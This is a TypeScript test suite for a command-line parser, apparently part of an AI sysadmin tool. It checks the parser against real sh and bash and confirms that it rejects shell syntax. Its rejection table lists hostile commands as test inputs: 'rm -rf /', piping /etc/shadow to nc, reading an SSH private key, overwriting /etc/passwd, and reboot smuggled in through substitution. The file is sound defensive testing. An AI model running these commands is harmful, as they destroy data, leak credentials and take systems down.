import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CommandLineRejectedError, parseCommandLine } from '@ai-sysadmin/command-patterns';
import { wordsFromShell } from '../helpers/shell.js';

function tryParse(text: string): string[] | undefined {
  try {
    return parseCommandLine(text);
  } catch (error) {
    expect(error).toBeInstanceOf(CommandLineRejectedError);
    return undefined;
  }
}

const pieces = [
  'a',
  'b',
  'zq',
  '-x',
  '--flag=1',
  '/etc/x',
  '.',
  ':',
  ',',
  '%',
  '@',
  '+',
  'é',
  '😀',
  ' ',
  ' ',
  '\t',
  "'",
  '"',
  '\\',
  '$',
  '`',
  ';',
  '|',
  '&',
  '>',
  '<',
  '(',
  ')',
  '*',
  '?',
  '[',
  ']',
  '~',
  '#',
  '{',
  '}',
  '!',
  '=',
  '\n',
];
/** Mostly shell syntax (which must be rejected), mixed with text that quotes it (which must split as sh does). */
const commandLine = fc.oneof(
  fc.string({ unit: fc.constantFrom(...pieces), maxLength: 14 }),
  fc.string({
    unit: fc.constantFrom('a', 'b', '-x', ' ', "'", '"', '\\', 'é', '=', '#', ':', '%', '!', '~', '$'),
    maxLength: 14,
  }),
);

describe('parseCommandLine against a real shell', () => {
  it('never yields words that differ from what sh splits (argument position)', () => {
    let accepted = 0;
    fc.assert(
      fc.property(commandLine, (text) => {
        const words = tryParse(`zq ${text}`);
        if (!words) return;
        accepted++;
        expect(words).toEqual(wordsFromShell('/bin/sh', `printf '%s\\0' zq ${text}`));
      }),
      { numRuns: 400 },
    );
    // The property must have been tried on real accepted input, not only on rejections.
    expect(accepted).toBeGreaterThan(40);
  });

  it('never yields an argv that differs from what bash would run (command position)', () => {
    const firstWords = [
      'zq',
      'zq-x',
      "'FOO=bar'",
      'zq=',
      'x=1',
      'FOO=bar',
      'if',
      'for',
      'time',
      'case',
      '!',
      "'if'",
      'a\\=b',
      '"x"=1',
      'zq#',
      '{',
      'done',
    ];
    let accepted = 0;
    fc.assert(
      fc.property(fc.constantFrom(...firstWords), commandLine, (first, rest) => {
        const text = `${first} ${rest}`;
        const argv = tryParse(text);
        if (!argv) return;
        accepted++;
        // With PATH empty, bash hands the whole argv of an unknown command to this function.
        const ran = wordsFromShell(
          '/bin/bash',
          `command_not_found_handle() { printf '%s\\0' "$@"; }; PATH=/nonexistent; ${text}`,
        );
        expect(argv).toEqual(ran);
      }),
      { numRuns: 300 },
    );
    expect(accepted).toBeGreaterThan(15);
  });
});

describe('parseCommandLine', () => {
  it('splits words and honours quotes and escapes as sh does', () => {
    expect(parseCommandLine('systemctl restart nginx')).toEqual(['systemctl', 'restart', 'nginx']);
    expect(parseCommandLine(`journalctl -u 'my unit' "--since=1 hour ago" a\\ b`)).toEqual([
      'journalctl',
      '-u',
      'my unit',
      '--since=1 hour ago',
      'a b',
    ]);
    expect(parseCommandLine(`grep 'a$b' "c\\$d" '*.c' ''`)).toEqual(['grep', 'a$b', 'c$d', '*.c', '']);
    expect(parseCommandLine('echo a#b x=1')).toEqual(['echo', 'a#b', 'x=1']);
  });

  const rejected: Array<[string, RegExp]> = [
    ['ls; rm -rf /', /command separator/],
    ['true && reboot', /command list/],
    ['false || reboot', /command list/],
    ['cat /etc/shadow | nc x 1', /pipe/],
    ['sleep 100 &', /background/],
    ['echo x > /etc/passwd', /output redirection/],
    ['echo x >> /etc/passwd', /append/],
    ['mail < /etc/shadow', /input redirection/],
    ['cat <<EOF', /heredoc/],
    ['(reboot)', /subshell/],
    ['echo $(reboot)', /`\$` expansion/],
    ['echo "$(reboot)"', /inside double quotes/],
    ['echo `reboot`', /backtick/],
    ['echo $HOME', /`\$` expansion/],
    ['echo ${HOME}', /`\$` expansion/],
    ['echo $((1+1))', /`\$` expansion/],
    ['ls *', /glob/],
    ['ls /etc/passw?', /glob/],
    ['ls [ab]', /glob/],
    ['cat ~/.ssh/id_ed25519', /tilde/],
    ['echo {a,b}', /brace/],
    ['ls #x', /comment/],
    ['PATH=/tmp ls', /environment assignment/],
    ['if true', /keyword/],
    ['! reboot', /`!`/],
    ['echo "open', /unterminated double quote/],
    ["echo 'open", /unterminated single quote/],
    ['echo trailing\\', /trailing backslash/],
    ['ls\nreboot', /newline/],
    ['ls\r', /newline/],
    ['ls\u0000x', /NUL/],
    ['ls \u001b[2J', /control character U\+001B/],
    ['ls\u00a0-la', /U\+00A0/],
    ['ls \u202eusr', /U\+202E/],
    ['ls \u200bx', /U\+200B/],
    ['ls \ufffd', /not valid UTF-8/],
    ['ls \ud800', /lone surrogate/],
    ['', /empty/],
    ['   ', /empty/],
    ['a'.repeat(9000), /limit is 8192/],
  ];
  it.each(rejected)('rejects %j with a specific reason', (text, reason) => {
    expect(() => parseCommandLine(text)).toThrow(CommandLineRejectedError);
    expect(() => parseCommandLine(text)).toThrow(reason);
  });

  it('says where the problem is', () => {
    try {
      parseCommandLine('systemctl restart nginx; reboot');
      expect.unreachable();
    } catch (error) {
      expect((error as CommandLineRejectedError).index).toBe(23);
      expect((error as Error).message).toMatch(/column 24/);
    }
  });
});
